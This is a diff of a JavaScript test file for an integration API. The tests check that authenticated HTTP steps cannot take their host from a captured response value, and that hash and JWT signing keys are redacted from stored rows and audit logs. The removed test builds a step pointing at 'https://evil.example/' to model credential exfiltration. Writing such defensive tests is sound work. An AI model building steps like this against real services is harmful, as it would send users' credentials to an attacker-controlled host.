@@ -79,18 +79,32 @@ describe('a custom integration', () => {
     expect([refused.status, refused.messages.join()]).toEqual([400, expect.stringContaining('must be sent again')]);
   });
 
-  test('asks for it too when an earlier step comes to capture part of its address', async () => {
-    const authenticated = { ...step, Url: '{{Place}}/in', Authentication: basic };
-    const { IntegrationGuid: guid, Steps } = await made({
-      Steps: [{ MessageTypes: ['Error'], HttpSteps: [step, authenticated] }],
-    });
+  test.each([
+    ['a level', { PredefinedVariables: [{ Name: 'Place', SpecifyInEscalationLevel: true }] }],
+    ['an answer', {}],
+  ])('takes no host from %s for what it signs in to', async (_who, fields) => {
     const captures = [{ Name: 'Place', Source: 'ResponseBodyText' }];
-    const turned = Steps.map((one) => ({
-      ...one,
-      HttpSteps: [{ ...step, Url: 'https://evil.example/', Variables: captures }, ...one.HttpSteps.slice(1)],
-    }));
-    const refused = await admin('PATCH', `${PATH}/${guid}`, { Steps: turned });
-    expect([refused.status, refused.messages.join()]).toEqual([400, expect.stringContaining('must be sent again')]);
+    const first = 'PredefinedVariables' in fields ? step : { ...step, Variables: captures };
+    const second = { ...step, Url: 'https://{{Place}}/in', Authentication: basic };
+    const Steps = [{ MessageTypes: ['Error'], HttpSteps: [first, second] }];
+    const refused = await admin('POST', PATH, { ...wanted, ...fields, Steps });
+    expect([refused.status, refused.messages.join()]).toEqual([400, expect.stringContaining('variables with a Value')]);
+  });
+
+  test('keeps the keys of its functions as it keeps passwords', async () => {
+    const sign = { Name: 'sign', Type: 'Hash', HashAlgorithm: 'HMACSHA256', HashKey: 'k3y-of-hash' };
+    const token = { Name: 'token', Type: 'JwtEncode', JwtAlgorithm: 'HS256', JwtSigningKey: 'k3y-of-jwt' };
+    const before = await made({ UserDefinedFunctions: [sign, token] });
+    const guid = before.IntegrationGuid;
+    expect(before.UserDefinedFunctions).toMatchObject([{ HashKey: '' }, { JwtSigningKey: '' }]);
+    expect((await admin('PUT', `${PATH}/${guid}`, before)).status).toBe(204);
+    expect(await read(guid)).toEqual(before);
+    const renamed = [{ ...sign, Name: 'other', HashKey: '' }];
+    const refused = await admin('PATCH', `${PATH}/${guid}`, { UserDefinedFunctions: renamed });
+    expect([refused.status, refused.messages.join()]).toEqual([400, expect.stringContaining('other.HashKey')]);
+    const rows = await db.selectFrom('integration').selectAll().where('integration_guid', '=', guid).execute();
+    const audit = await db.selectFrom('audit').selectAll().where('object_guid', '=', guid).execute();
+    expect(JSON.stringify([rows, audit])).not.toContain('k3y-of');
   });
 
   test.each([
